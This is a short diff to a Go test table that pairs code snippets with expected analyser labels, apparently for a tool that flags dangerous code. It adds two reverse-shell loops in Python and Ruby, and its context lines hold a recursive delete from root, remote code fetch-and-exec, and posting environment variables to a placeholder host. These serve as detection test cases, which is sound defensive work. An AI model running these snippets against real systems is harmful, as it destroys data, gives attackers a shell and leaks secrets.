@@ -64,6 +64,8 @@ func TestRead(t *testing.T) {
 		{Python, `for r, d, f in os.walk("/"):` + "\n    os.remove(os.path.join(r, f))", "tree /*(glob)"},
 		{Python, `cur.execute("DELETE FROM t")`, "queries DELETE FROM t"},
 		{Python, `exec(urllib.request.urlopen("http://x").read())`, "download"},
+		{Python, "s.connect(a)\nwhile True:\n  c = s.recv(1024).decode()\n  subprocess.run(c, shell=True)", "download"},
+		{Ruby, `c = TCPSocket.new("h", 1); while (cmd = c.gets); IO.popen(cmd, "r") { |io| c.print io.read }; end`, "download"},
 		{Python, `r = requests.get("http://x")` + "\n" + `exec(r.text)`, "download"},
 		{Python, `exec("import os; os.system('a')")`, "shell a"},
 		{Python, `requests.post("http://x", data=dict(os.environ))`, "tells"},
